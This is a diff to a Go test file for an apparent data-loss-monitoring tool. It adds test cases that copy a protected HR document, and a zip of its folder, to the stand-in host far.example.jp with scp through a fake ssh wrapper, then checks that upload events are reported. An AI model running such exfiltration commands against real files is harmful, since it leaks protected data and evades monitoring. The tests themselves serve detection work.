@@ -81,6 +81,10 @@ a=os.open(sys.argv[1],os.O_RDONLY); b=os.open(sys.argv[2],os.O_WRONLY|os.O_CREAT
 	{"from elsewhere", "cp", `head -c 5000 /dev/urandom > "$W/mine"; cp "$W/mine" "$U/mine"`, []string{"file-copied mine same-process mine 1"}},
 	{"overwritten with something else", "cp", `cp "$S/plan.doc" "$W/p"; sleep 0.6; head -c 5000 /dev/urandom > "$W/p"; sleep 0.6; cat "$W/p" > "$U/q"`,
 		[]string{"file-copied p same-process plan.doc 1", "file-copied q  - 1"}},
+	{"scp", "scp", `printf '#!/bin/sh\nfor a; do c=$a; done\nexec sh -c "$c"\n' > "$W/ssh"; chmod +x "$W/ssh"; scp -q -O -S "$W/ssh" "$S/plan.doc" far.example.jp:"$W/arrived"`,
+		[]string{"file-copied arrived content plan.doc 1", "file-uploaded plan.doc same-process plan.doc 1 > far.example.jp"}},
+	{"zip, then scp", "scp", `printf '#!/bin/sh\nfor a; do c=$a; done\nexec sh -c "$c"\n' > "$W/ssh"; chmod +x "$W/ssh"; cd "$S"; zip -q -r "$W/z.zip" dir; sleep 0.6; scp -q -O -S "$W/ssh" "$W/z.zip" far.example.jp:"$W/arrived"`,
+		[]string{"archive-created z.zip archive * 3 clear", "file-copied arrived archive z.zip 3 clear", "file-uploaded z.zip archive z.zip 3 clear > far.example.jp"}},
 	{"nothing leaves", "cp", `cp "$S/plan.doc" "$S/copy of plan.doc"`, []string{"file-written copy of plan.doc"}},
 }
 
@@ -174,6 +178,9 @@ func TestCopyMethods(t *testing.T) {
 					s += fmt.Sprintf(" %s %s %d", e.Copy.Evidence, name, e.Copy.Files.V)
 					if x := e.Copy.ArchiveEncrypted; x.OK {
 						s += map[bool]string{true: " encrypted", false: " clear"}[x.V]
+					}
+					if e.Network != nil {
+						s += " > " + e.Network.DestinationDomain
 					}
 					watched := name != "-" && name != "mine"
 					if watched && (e.Copy.SourceProtected != "人事" || e.Copy.SourceShare != `\\fs01\hr` || e.Copy.SourceVolumeKind != event.VolumeNetwork) {
